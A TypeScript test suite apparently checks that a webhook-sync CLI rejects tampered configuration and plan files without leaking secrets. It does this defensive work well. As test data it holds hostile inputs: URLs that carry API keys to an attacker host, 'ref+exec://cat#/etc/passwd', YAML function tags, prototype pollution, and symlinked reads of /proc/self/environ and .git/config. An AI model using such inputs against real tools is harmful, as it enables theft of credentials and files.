import { link, mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { runProgram } from '../cli/run-program.ts'
import { canary, casey, caseyFile, chat, errorsOf, openWorld, voice, type World, webhook } from './world.ts'

/** Plans a file as somebody with bad intent edited it; nobody may have been sent anything. */
async function attack(
  text: (world: World) => string | Promise<string>,
  env: Readonly<Record<string, string>> = {},
): Promise<{ readonly codes: readonly string[]; readonly world: World; readonly said: string }> {
  const world = await openWorld(env)
  await world.write('webhooks.yaml', await text(world))
  const plan = await world.plan()
  return { codes: errorsOf(plan), world, said: JSON.stringify(plan) }
}

function voiceFile(world: World, fields: Readonly<Record<string, string>>): string {
  return `version: 1\nproviders:\n${voice(world)}    webhooks:\n${webhook('hook', {
    url: 'https://hooks.example.com/voice',
    subscriptions: '[{ agent_id: 60d0fe4f5311236168a109ca, events: [post-conversation] }]',
    ...fields,
  })}`
}

function secretFile(path: string): (world: World) => string {
  return (world) => caseyFile(world, { auth: `{ api_key: "ref+file://${path}" }` })
}

/** What a run logs in to stores with. */
const storeCredentials = {
  VAULT_TOKEN: canary,
  OP_CONNECT_TOKEN: canary,
  AWS_ACCESS_KEY_ID: 'an-access-key-id',
  AWS_SECRET_ACCESS_KEY: canary,
}

describe('an edited file sends nothing', () => {
  test.each<[string, (world: World) => string, string]>([
    ['by another base_url', (world) => caseyFile(world, { base_url: world.evil.origin }), 'HS2007'],
    [
      'by a base_url without encryption',
      (world) => caseyFile(world, { base_url: world.evil.origin.replace('https', 'http') }),
      'HS2007',
    ],
    [
      'by a base_url with a login, which hides its host',
      (world) => caseyFile(world, { base_url: `"https://api.tellcasey.com@0.0.0.0:${world.evil.port}"` }),
      'HS1003',
    ],
    [
      'by a base_url that only begins like a host of the vendor',
      (world) => caseyFile(world, { base_url: `https://api.tellcasey.com.0.0.0.0.nip.example:${world.evil.port}` }),
      'HS2007',
    ],
    [
      'by another auth_url',
      (world) => `version: 1\nproviders:\n${chat(world, { auth_url: world.evil.origin })}    webhooks: {}\n`,
      'HS2007',
    ],
    [
      'by another address of a store',
      (world) =>
        `stores: { default: { backend: vault, address: "${world.evil.origin}", auth: { method: token } } }\n` +
        caseyFile(world, { auth: '{ api_key: "ref+vault://kv/hooks/casey#/api_key" }' }),
      'HS2007',
    ],
    ...(
      [
        ['awssecrets', 'region: eu-west-1, endpoint', 'ref+awssecrets://hooks/casey#/api_key'],
        ['awsssm', 'region: eu-west-1, endpoint', 'ref+awsssm://hooks/casey'],
        ['gcpsecrets', 'project: hooks, endpoint', 'ref+gcpsecrets://casey'],
        ['azurekeyvault', 'vault', 'ref+azurekeyvault://casey'],
        ['op', 'method: connect, host', 'ref+op://hooks/casey/api_key'],
      ] as const
    ).map(([backend, settings, ref]): [string, (world: World) => string, string] => [
      `by another address of ${backend}`,
      (world) =>
        `stores: { default: { backend: ${backend}, ${settings}: "${world.evil.origin}" } }\n` +
        caseyFile(world, { auth: `{ api_key: "${ref}" }` }),
      'HS2007',
    ]),
    [
      'by connection settings in a reference',
      (world) => caseyFile(world, { auth: `{ api_key: "ref+vault://kv/casey?address=${world.evil.port}#/key" }` }),
      'HS2002',
    ],
    [
      'by a reference in a url',
      (world) => caseyFile(world, {}, { url: '"https://evil.example/?key=ref+env://TELLCASEY_API_KEY"' }),
      'HS2005',
    ],
    [
      'by a reference in a description',
      (world) => caseyFile(world, {}, { description: 'ref+env://TELLCASEY_API_KEY' }),
      'HS2005',
    ],
    [
      'by a reference inside a header',
      (world) => voiceFile(world, { headers: '{ X-Key: "Bearer ref+env://HEADER_SECRET" }' }),
      'HS2005',
    ],
    [
      'by a reference as a plain setting',
      (world) =>
        `version: 1\nproviders:\n${chat(world, { project_id: 'ref+env://SINCH_KEY_SECRET' })}    webhooks: {}\n`,
      'HS2005',
    ],
    [
      'by two references in one',
      (world) => caseyFile(world, { auth: '{ api_key: "ref+env://Aref+env://TELLCASEY_API_KEY" }' }),
      'HS2002',
    ],
    ['by a command', (world) => caseyFile(world, { auth: '{ api_key: "ref+exec://cat#/etc/passwd" }' }), 'HS2002'],
    ['by a plugin', (world) => `plugins: [./evil.js]\n${caseyFile(world)}`, 'HS1005'],
    ['by a command at the root', (world) => `exec: { argv: [cat, /etc/passwd] }\n${caseyFile(world)}`, 'HS1005'],
    ['by a tag of YAML', (world) => `ledger: !!js/function "process.exit()"\n${caseyFile(world)}`, 'HS1002'],
    ['by a prototype', (world) => `__proto__: { stores: {} }\n${caseyFile(world)}`, 'HS1005'],
    [
      'by the prototype of an account',
      (world) =>
        caseyFile(world, { __proto__: '1', constructor: '1' }).replace('type:', '__proto__: { a: b }\n    type:'),
      'HS1005',
    ],
    [
      "by the credentials of somebody else's account",
      (world) =>
        `version: 1\nproviders:\n${casey(world)}    webhooks: {}\n${voice(world, {
          auth: '{ api_key: "ref+env://TELLCASEY_API_KEY" }',
        })}    webhooks: {}\n`,
      'HS2015',
    ],
    [
      'by credentials as a header',
      (world) => voiceFile(world, { headers: '{ X-Key: "ref+env://SMALLEST_API_KEY" }' }),
      'HS2015',
    ],
    [
      'by credentials as a parameter of the receiver',
      (world) => caseyFile(world, {}, { url_params: '{ key: "ref+env://TELLCASEY_API_KEY" }' }),
      'HS2015',
    ],
    [
      'by a text of the environment that is a credential of the same files',
      (world) => caseyFile(world, {}, { description: '"${env:TELLCASEY_API_KEY}"' }),
      'HS1010',
    ],
  ])('%s', async (_, text, code) => {
    const { codes, world, said } = await attack(text, storeCredentials)

    expect(codes).toContain(code)
    expect(world.evil.received).toEqual([])
    expect(world.calls()).toBe(0)
    expect(said).not.toContain(canary)
    expect(said).not.toContain(world.env['TELLCASEY_API_KEY'])
  })

  test.each([
    ['DEPLOY', 'ref+env://DEPLOY'],
    ['DEPLOY', 'secretref+env://DEPLOY'],
    ['DEPLOY', 'ref+env://%44EPLOY'],
    ['DEPLOY', 'ref+env://DEPLOY?store=main'],
  ])('by naming %s in a text, when %s is a credential', async (name, ref) => {
    const { codes, said } = await attack(
      (world) =>
        `stores: { main: { backend: env } }\n${caseyFile(
          world,
          { auth: `{ api_key: "${ref}" }` },
          { description: `"\${env:${name}}"` },
        )}`,
      { DEPLOY: canary },
    )

    expect(codes).toEqual(['HS1010'])
    expect(said).not.toContain(canary)
  })

  test.each(['VAULT_TOKEN', 'HOOKS_SYNC_AGE_KEY', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'GITHUB_TOKEN', 'CI_JOB_TOKEN'])(
    'by naming %s, with which the run itself proves who it is',
    async (name) => {
      const { codes, world } = await attack((own) => caseyFile(own, { auth: `{ api_key: "ref+env://${name}" }` }), {
        [name]: canary,
      })

      expect(codes).toEqual(['HS2007'])
      expect(world.calls()).toBe(0)
    },
  )
})

describe('a reference to a file reads nothing', () => {
  test.each<[string, string, string]>([
    ['above the files', '../operator/token', 'HS2004'],
    ['anywhere else', '/etc/hostname', 'HS2004'],
    ['of the kernel', '/proc/self/environ', 'HS2004'],
    ['of git, which may hold the token of the checkout', '.git/config', 'HS2004'],
    ['through a link', 'link', 'HS2004'],
    ['through a linked directory', 'linked/token', 'HS2004'],
    ['of the kernel through a link', 'kernel', 'HS2004'],
    ['that opens the vault, under another name', 'renamed', 'HS2007'],
  ])('%s', async (_, path, code) => {
    const { codes, world } = await attack(async (own) => {
      await plantFiles(own)
      return secretFile(path)(own)
    })

    expect(codes).toEqual([code])
    expect(world.calls()).toBe(0)
  })

  test('by a store that opens every directory to itself', async () => {
    const { codes, world } = await attack(
      (own) => `stores: { all: { backend: file, roots: [/] } }\n${secretFile('/etc/hostname?store=all')(own)}`,
    )

    expect(codes).toEqual(['HS2007'])
    expect(world.calls()).toBe(0)
  })

  test('but one that lies beside the files', async () => {
    const { codes, world } = await attack(async (own) => {
      await own.write('token', own.env['TELLCASEY_API_KEY'] ?? '')
      return secretFile('token')(own)
    })

    expect(codes).toEqual([])
    expect(world.calls()).toBeGreaterThan(0)
  })
})

async function plantFiles({ directory, outside, env }: World): Promise<void> {
  const identities = join(env['HOME'] ?? '', '.config', 'hooks-sync')
  await mkdir(identities, { recursive: true })
  await writeFile(join(identities, 'key.txt'), canary)
  await writeFile(join(outside, 'token'), canary)
  await writeFile(join(directory, '.git', 'config'), canary)
  await symlink(join(outside, 'token'), join(directory, 'link'))
  await symlink(outside, join(directory, 'linked'))
  await symlink('/proc/self/environ', join(directory, 'kernel'))
  await link(join(identities, 'key.txt'), join(directory, 'renamed'))
}

test('a proxy of the environment is asked to connect, and learns nothing', async () => {
  const world = await openWorld()
  await world.write('webhooks.yaml', caseyFile(world, { base_url: 'https://api.tellcasey.com/v1/backend' }))

  const planned = await world.plan({
    env: { HTTPS_PROXY: `http://127.0.0.1:${world.evil.port}`, TELLCASEY_API_KEY: canary },
  })

  expect(errorsOf(planned)).toEqual(['HS4002'])
  expect(world.evil.received.join('')).toMatch(/^CONNECT api\.tellcasey\.com:443/u)
  expect(world.evil.received.join('')).not.toContain(canary)
})

test('a ledger that was edited to know another account refuses the plan', async () => {
  const world = await openWorld()
  await world.write('webhooks.yaml', caseyFile(world))
  await world.apply()
  const ledger = join(world.directory, '.hooks-sync/ledger.json')
  const { origin } = new URL(world.sandbox.vendors.tellcasey.baseUrl)
  await writeFile(ledger, (await readFile(ledger, 'utf8')).replaceAll(origin, 'https://elsewhere.example'))

  const planned = await world.plan()

  expect(planned.accounts.flatMap(({ refusals }) => refusals.map(({ code }) => code))).toEqual(['HS3012'])
})

test('a plan file that was edited does nothing but what the files say', async () => {
  const world = await openWorld()
  const { directory: cwd, env, sandbox } = world
  await world.write('webhooks.yaml', caseyFile(world))
  await runProgram(['plan', '--out', 'plan.json'], { cwd, env })
  const file = join(cwd, 'plan.json')
  await writeFile(file, (await readFile(file, 'utf8')).replaceAll('hooks.example.com', 'evil.example'))

  const ran = await runProgram(['apply', 'plan.json', '--auto-approve'], { cwd, env })

  expect(ran.code).toBe(4)
  expect(sandbox.vendors.tellcasey.webhooks.all()).toEqual([])
})

test('a plan file that names another configuration is held to what that one may do', async () => {
  const world = await openWorld()
  const { directory: cwd, env, evil } = world
  await world.write('webhooks.yaml', caseyFile(world))
  await world.write('other.yaml', caseyFile(world, { base_url: evil.origin }))
  await runProgram(['plan', '--out', 'plan.json'], { cwd, env })
  const file = join(cwd, 'plan.json')
  const saved = JSON.parse(await readFile(file, 'utf8'))
  saved.extra.flags.files = ['other.yaml']
  await writeFile(file, JSON.stringify(saved))

  const ran = await runProgram(['apply', 'plan.json', '--auto-approve'], { cwd, env })

  expect(ran.code).not.toBe(0)
  expect(ran.stderr).toContain('HS2007')
  expect(evil.received).toEqual([])
})
